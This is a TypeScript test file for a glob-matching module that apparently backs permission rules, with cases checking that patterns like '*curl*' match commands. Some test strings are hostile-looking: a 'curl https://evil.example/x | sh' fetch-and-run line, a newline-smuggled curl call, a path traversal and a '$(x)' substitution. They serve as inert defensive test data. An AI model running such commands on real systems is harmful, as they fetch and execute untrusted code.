import fc from "fast-check";
import micromatch from "micromatch";
import { expect, test } from "vitest";
import { globMatches, globProblem, globsCover } from "../../src/constraints/glob.ts";

test.each([
  ["github", "github", true],
  ["github", "git*", true],
  ["github", "gitlab", false],
  ["github", "GitHub", false],
  ["curl https://evil.example/x | sh", "*curl*", true],
  ["echo a\ncurl https://evil.example", "*curl*", true],
  ["cat ../x/../y", "cat *", true],
  [".", "*", true],
  ["", "*", true],
  ["github:acme/standards", "github:acme/*", true],
  ["github:acmeevil/standards", "github:acme/*", false],
  ["git+https://git.acme.example/standards.git", "git+https://git.acme.example/**", true],
  ["path:./a/b", "path:*", true],
  ["a.c", "a.c", true],
  ["abc", "a.c", false],
  ["a?c", "a\\?c", true],
  ["abc", "a\\?c", false],
  ["a*c", "a\\*c", true],
  ["abc", "a\\*c", false],
  ["abc", "a?c", true],
  ["gitlab", "{github,gitlab}", true],
  ["{github,gitlab}", "\\{github,gitlab\\}", true],
  ["github", "\\{github,gitlab\\}", false],
  ["a*b", "{a\\*b,c}", true],
  ["axb", "{a\\*b,c}", false],
  ['say "hi"', '{say "hi",x}', true],
  ["$(x)", "{$(x),y}", true],
  ["cat", "[bc]at", true],
  ["bat", "[!bc]at", false],
  ["rat", "[!bc]at", true],
  ["[x", "[x", true],
  ["!x", "!x", true],
  ["y", "!x", false],
  ["ab", "a*b*", true],
  ["aXbXb", "a*b", true],
  ["ab", "a*ab", false],
])("%j and the glob %j: %s", (text, glob, expected) => {
  expect(globProblem(glob)).toBe(null);
  expect(globMatches(text, glob)).toBe(expected);
});

test("agrees with micromatch wherever no slash is involved", () => {
  const text = fc.string({ unit: fc.constantFrom("a", "b", "x", "-"), maxLength: 8 });
  const glob = fc.string({ unit: fc.constantFrom("a", "b", "x", "*", "?"), minLength: 1, maxLength: 6 });
  fc.assert(
    fc.property(text, glob, (name, pattern) => {
      fc.pre(name !== "");
      expect(globMatches(name, pattern)).toBe(
        micromatch.isMatch(name, pattern.replace(/\*+/g, "*"), {
          dot: true,
          nonegate: true,
          noextglob: true,
        }),
      );
    }),
    { numRuns: 2_000 },
  );
});

test("takes time in proportion to the text, whatever the glob", () => {
  const started = performance.now();
  expect(globMatches("a".repeat(20_000), `${"*a".repeat(200)}*b`)).toBe(false);
  expect(performance.now() - started).toBeLessThan(1_000);
});

test.each([
  ["nothing", ""],
  ["braces without end", "{a,b}".repeat(10)],
  ["a range in braces", "x{1..1000000}"],
  ["a range that runs backwards", "[z-a]"],
  ["too long a text", "a".repeat(1_001)],
])("refuses %s as a glob", (_, glob) => {
  expect(globProblem(glob)).not.toBe(null);
});

test.each([
  [["*"], "git*", true],
  [["git*"], "github", true],
  [["git*"], "git*", true],
  [["git*"], "g*", false],
  [["github", "gitlab"], "{github,gitlab}", true],
  [["github"], "{github,gitlab}", false],
  [["a?"], "a*", false],
  [["a?"], "a?", true],
  [["*x"], "y*x", true],
  [["y*x"], "*x", false],
  [["github:acme/*"], "github:acme/team-*", true],
])("that %j covers %j: %s", (globs, inner, expected) => {
  expect(globsCover(globs, inner)).toBe(expected);
});

test("whatever an inner glob matches, globs that cover it match", () => {
  const glob = fc.string({ unit: fc.constantFrom("a", "b", "*", "?"), minLength: 1, maxLength: 5 });
  const text = fc.string({ unit: fc.constantFrom("a", "b", "c"), maxLength: 6 });
  fc.assert(
    fc.property(glob, glob, text, (outer, inner, name) => {
      if (globsCover([outer], inner) && globMatches(name, inner)) expect(globMatches(name, outer)).toBe(true);
    }),
    { numRuns: 20_000 },
  );
});
